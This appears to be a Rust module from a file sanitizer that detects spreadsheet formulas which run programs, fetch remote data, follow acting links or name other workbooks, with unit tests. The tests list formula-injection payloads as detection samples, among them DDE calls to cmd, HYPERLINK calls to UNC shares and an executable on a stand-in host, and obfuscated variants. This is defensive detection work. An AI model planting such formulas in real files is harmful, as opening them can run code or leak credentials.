//! Formulas (ECMA-376 part 1, 18.17): those that fetch or start something, and those that refer to another book.

use crate::sanitize::format::formula::call_kind::{CallKind, is_function};
use crate::sanitize::format::formula::functions::{
    calls_others, is_called, is_value, last_name, names_reaching, reaches,
};
use crate::sanitize::format::formula::links::links_act;
use crate::sanitize::format::formula::pieces::{FormulaDialect, FormulaPiece, pieces};
use crate::sanitize::format::formula::references::{ReferenceScope, is_book, references_act, refers_to_book};
use crate::sanitize::format::link_target;

/// The longest name of another book that is looked for, in bytes: longer ones are quoted.
const BOOK: usize = 260;

/// Whether calculating a formula does more than calculate: DDE (`server|topic!item`), functions that fetch, links
/// that act, cells of another book that it names.
pub(in crate::sanitize::format) fn acts(formula: &str) -> bool {
    let outside = |piece: FormulaPiece<'_>| match piece {
        FormulaPiece::Code(code) => code.contains('|') || names_book(code),
        // No sheet has a slash in its name; one with a bar is rarer than what starts programs.
        FormulaPiece::Name(name) => name.contains(['|', '\\', '/']) || is_in_book(name) || is_book(name),
        FormulaPiece::Text(_) => false,
    };
    pieces(formula, FormulaDialect::Excel).any(outside) || calls(formula, FormulaDialect::Excel)
}

/// Whether code refers to another book by its name: `[a.xlsx]S!A1`, `a.xlam!F()`.
fn names_book(code: &str) -> bool {
    let part = |c: char| c.is_alphanumeric() || matches!(c, '.' | '_' | ':');
    code.match_indices('!').filter_map(|(at, _)| code.get(..at)).any(|before| {
        let front = before.trim_end_matches(part);
        let near = front.ceil_char_boundary(front.len().saturating_sub(BOOK));
        let near = front.get(near..).filter(|near| near.ends_with(']')).unwrap_or_default();
        let bracket = near.rfind('[').and_then(|at| near.get(at..));
        bracket.is_some_and(is_in_book) || is_book(before.get(front.len()..).unwrap_or_default())
    })
}

/// Whether a name says which book its sheet is in, by more than a number: `[a.xlsx]S`.
fn is_in_book(name: &str) -> bool {
    let book = name.split_once('[').and_then(|(_, inner)| inner.split(']').next());
    book.is_some_and(|book| book.contains(|c: char| !c.is_ascii_digit()))
}

/// What a formula calls.
#[derive(Debug, Default)]
struct FormulaCalls {
    /// A function that fetches or calls something.
    reaches: bool,
    /// `HYPERLINK`.
    links: bool,
    /// `INDIRECT`.
    refers: bool,
    /// One that calls others that it is given.
    passes: bool,
    /// `LET`, `LAMBDA`.
    names: bool,
    gives: bool,
    /// One that may become another text than those that it is given.
    makes: bool,
}

impl FormulaCalls {
    /// Of a formula in capitals.
    fn of(formula: &str) -> Self {
        let mut calls = Self::default();
        for (at, _) in formula.match_indices('(') {
            let name = last_name(formula.get(..at).unwrap_or_default());
            let kind = CallKind::of(name);
            calls.reaches |= reaches(name);
            calls.links |= kind == CallKind::Link;
            calls.refers |= is_called(name, "INDIRECT");
            calls.passes |= calls_others(name);
            calls.names |= kind == CallKind::Let;
            calls.gives |= kind == CallKind::Lambda;
            calls.makes |= kind.makes_other();
        }
        calls
    }
}

/// Whether a formula calls a function that fetches or calls something, shows a link that acts, or makes up a reference to
/// another book.
pub(in crate::sanitize::format) fn calls(formula: &str, dialect: FormulaDialect) -> bool {
    let upper = formula.to_ascii_uppercase();
    let calls = FormulaCalls::of(&upper);
    if calls.reaches {
        return true;
    }
    let any_code = |is: &dyn Fn(&str) -> bool| {
        pieces(&upper, dialect).any(|piece| matches!(piece, FormulaPiece::Code(code) if is(code)))
    };
    let names = calls.names || calls.gives;
    if (calls.passes || names || upper.contains("_XLETA.")) && any_code(&names_reaching) {
        return true;
    }
    let is_link = any_code(&|code: &str| is_value(code, "HYPERLINK"));
    let is_reference = any_code(&|code: &str| is_value(code, "INDIRECT"));
    // What calls them is another formula, or cannot be told, but for functions that are made for that.
    if (is_link || is_reference) && (names || !calls.passes) {
        return true;
    }
    let is_function = calls.gives && is_function(&upper, dialect);
    // What is given a name may stand anywhere, and so may what is made of it.
    let led = match (calls.links, is_function) {
        (true, true) => Some(links_act(formula, dialect).unwrap_or(true)),
        (true, false) if !calls.passes && !calls.gives && !is_link => links_act(formula, dialect),
        _ => None,
    };
    let links = calls.links || is_link;
    if links && led.unwrap_or_else(|| calls.makes || any_acts(&texts(formula, dialect))) {
        return true;
    }
    let scope = match is_function {
        true => ReferenceScope::Function,
        false if names || calls.passes => ReferenceScope::Formula,
        false => ReferenceScope::Call,
    };
    (calls.refers || is_reference)
        && (refers_to_book(&texts(formula, dialect)) || references_act(formula, dialect, scope))
}

/// The strings of a formula.
fn texts(formula: &str, dialect: FormulaDialect) -> Vec<&str> {
    let text = |piece| if let FormulaPiece::Text(text) = piece { Some(text) } else { None };
    pieces(formula, dialect).filter_map(text).collect()
}

/// Whether one of these texts, or all of them together, are a target that acts.
fn any_acts(texts: &[&str]) -> bool {
    texts.iter().any(|text| link_target::acts(text)) || link_target::acts(&texts.concat())
}

/// Whether a formula refers to another workbook, by its number: `[1]Sheet1!A1`. Columns of tables are in brackets
/// too, behind a name.
pub(in crate::sanitize::format) fn refers_to_workbook(formula: &str) -> bool {
    let mut before = ' ';
    let mut rest = formula;
    while let Some(c) = rest.chars().next() {
        rest = rest.get(c.len_utf8()..).unwrap_or_default();
        if c == '"' {
            rest = rest.split_once('"').map_or("", |(_, behind)| behind);
        }
        if c == '[' && !before.is_alphanumeric() && !matches!(before, '_' | '.' | '[' | ']' | ',' | ':') {
            let end = rest.find(|c: char| !c.is_ascii_digit()).unwrap_or(rest.len());
            let (number, behind) = rest.split_at_checked(end).unwrap_or_default();
            if behind.starts_with(']') && !matches!(number, "" | "0") {
                return true;
            }
        }
        before = c;
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_that_act() {
        for formula in [
            "cmd|'/C calc'!A0",
            "'cmd|/c calc'!A0",
            "'cmd|calc'!A0",
            "T['#x]+cmd|'/C calc'!A0",
            "1+_xlfn.WEBSERVICE(\"http://a\")",
            "WEBSERVICE\u{a0}(\"http://a\")",
            "\"a\"\"&\"&@webservice(A1)",
            "hyperlink(\"\\\\h\\s\",\"x\")",
            "HYPERLINK(\"fi\"&\"le://h\")",
            "'a\"b'!A1&HYPERLINK(\"\\\\h\\s\")",
            "IF(A1,RTD (\"a\"))",
            "_xlfn._xlws.PY(0,1)",
            "_xlws.PY(0,1)",
            "_xldudf_EVIL()",
            "LET(u,\"file:///x\",HYPERLINK(u,1))",
            "LET(u,RIGHT(\"https://a.example//h/s\",5),HYPERLINK(u))",
            "_xlfn.LAMBDA(_xlpm.u,HYPERLINK(_xlpm.u))(CHAR(92)&CHAR(92)&\"h\\s\")",
            "com.microsoft.webservice(\"http://a\")",
            "MAP(A1,_xleta.WEBSERVICE)",
            "_xlfn.MAP(A1:A2,_xlfn._xleta.WEBSERVICE)",
            "_xlfn._xleta.WEBSERVICE",
            "_xlfn.LAMBDA(_xlpm.f,_xlpm.f(\"http://a\"))(WEBSERVICE)",
            "LET(f,WEBSERVICE,f(A1))",
            "_xlfn.BYROW({\"\\\\h\\s\"},_xlfn._xleta.HYPERLINK)",
            "_xlfn.MAP({\"\\\\h\\s\"},_xleta.HYPERLINK)",
            "_xlfn.LET(_xlpm.f,HYPERLINK,_xlpm.f(\"\\\\h\\s\"))",
            "LET(f,INDIRECT,f(\"[a.xlsx]S!A1\"))",
            "IF(1,HYPERLINK)(\"\\\\h\\s\")",
            "HYPERLINK",
            "_xlfn._xleta.HYPERLINK",
            "IF(TRUE,INDIRECT)",
            "LAMBDA(a,b,HYPERLINK(a&b))",
            "_xlfn.LAMBDA(_xlpm.u,HYPERLINK(_xlpm.u,1))",
            "IF(1,LAMBDA(u,HYPERLINK(u)))",
            "LAMBDA(a,INDIRECT(a))",
            "LET(m,MID(\"x[a.xlsx]S!A1\",2,20),INDIRECT(m))",
            "HYPERLINK(\"[\\\\evil.example\\share\\b.xlsx]S!A1\")",
            "HYPERLINK(\"[\"&\"\\\\evil.example\\share\\b.exe]\")",
            "LET(ü,\"/etc\",HYPERLINK(ü))",
            "IMPORTXML(\"http://a\",\"b\")",
            "GOOGLETRANSLATE(A1,\"en\")",
        ] {
            assert!(acts(formula), "{formula}");
        }
        for formula in [
            "SUM(A1:B2)",
            "\"a|b\"",
            "'a b'!A1",
            "HYPERLINK(\"http://a\")",
            "HYPERLINK(\"#\"&A1&\"!B2\",\"x\")",
            "HYPERLINK(\"https://x.example/\"&SUBSTITUTE(A1,\" \",\"/\"),\"/ see: \"&A1)",
            "CHISQ.DIST(A1,B1,TRUE)+NORM.S.INV(B2)",
            "RTDX(1)",
            "MAP(Image!A1,T[Call],LAMBDA(x,x+T[@Image]))",
            "Call-Put",
            "_xlfn.XLOOKUP(A1,B:B,C:C)",
            "LET(u,\"https://x.example/\"&MID(A1,1,3),HYPERLINK(u,\"x\"))",
            "LET(h,LAMBDA(x,HYPERLINK(\"https://x.example/\"&x)),h(A1))",
            "MAP(A1:A3,LAMBDA(x,HYPERLINK(x,\"go\")))",
            "MAP(A1:A3,_xleta.HYPERLINK)",
            "LAMBDA(a,HYPERLINK(\"https://x.example/\"&a,\"/ see\"))",
            "LAMBDA(a,INDIRECT(\"Sheet\"&a&\"!A1\"))",
            "MAP(A1:A3,LAMBDA(x,INDIRECT(x&\"!B2\")))",
            "HYPERLINK(\"[Book1.xlsx]Sheet1!A1\",\"x\")",
            "SUM(T[Hyperlink])&IF(S!Hyperlink=1,\"/\",\"\")",
            "",
        ] {
            assert!(!acts(formula), "{formula}");
        }
    }

    #[test]
    fn formulas_that_name_another_book() {
        for formula in [
            "'\\\\h\\share\\[a.xlsx]S'!A1",
            "'http://h/[a.xlsx]S'!A1",
            "'[a.xlsx]S b'!A1",
            "'C:\\x\\it''s\\a.xlsx'!Sum",
            "[a.xlsx]S!A1",
            "1+[a b.xlsx]!Sum",
            "SUM(A1,[a.xlsx]S:T!A1)",
            "a.xlam!Foo()",
            "'a.xlsx'!Sum",
            "INDIRECT(\"[\\\\h\\s.xlsx]S!A1\")",
            "INDIRECT(\"'[\"&A1&\"]S'!B2\")",
            "indirect(\"//h/s\")",
            "INDIRECT(CHAR(91)&\"a.xlsx]S!A1\")",
            "INDIRECT(CHAR(91)&\"a.xlsx\"&CHAR(93)&\"S!A1\")",
            "INDIRECT(MID(\"x[a.xlsx]S!A1\",2,20))",
            "INDIRECT(\"cmd\"&CHAR(124)&\"x\")",
        ] {
            assert!(acts(formula), "{formula}");
        }
        for formula in [
            "[1]S!A1",
            "'[12]A b'!A1",
            "'it''s'!A1",
            "Data.v1!A1",
            "#REF!A1",
            "'1:2'!A1",
            "Table1[[#This Row],[a.xlsx]]",
            "Table1['[USD'] it''s]&\"x\"",
            "Table1[5\"]&S!A1",
            "INDIRECT(A1&\"[Sum]\")",
            "INDIRECT(\"T[\"&A1&\"]\")&S!A1",
            "INDIRECT(CHAR(64+A1)&\"5\")",
            "INDIRECT(\"R[-1]C\",FALSE)&S!A1",
            "INDIRECT(\"'\"&A1&\"'!B2\")",
        ] {
            assert!(!acts(formula), "{formula}");
        }
    }

    #[test]
    fn formulas_that_refer_outside() {
        for formula in ["[1]Sheet1!A1", "SUM('[12]A b'!A1)", "1+[2]!name"] {
            assert!(refers_to_workbook(formula), "{formula}");
        }
        for formula in ["Table1[2020]", "T[[2020]:[2021]]", "\"[1]\"", "A1", "[0]!x", "[]", "[1"] {
            assert!(!refers_to_workbook(formula), "{formula}");
        }
    }

    #[test]
    fn a_formula_takes_time_by_its_length() {
        for piece in ["a]!", "[", "[x!", "[1", "(", "'", "A(", "HYPERLINK(", "HYPERLINK(\"a\"&"] {
            let formula = piece.repeat(200_000);
            assert!(!acts(&formula) && !names_book(&formula) && !refers_to_workbook(&formula), "{piece}");
            assert!(!calls(&formula, FormulaDialect::OpenFormula), "{piece}");
        }
    }
}
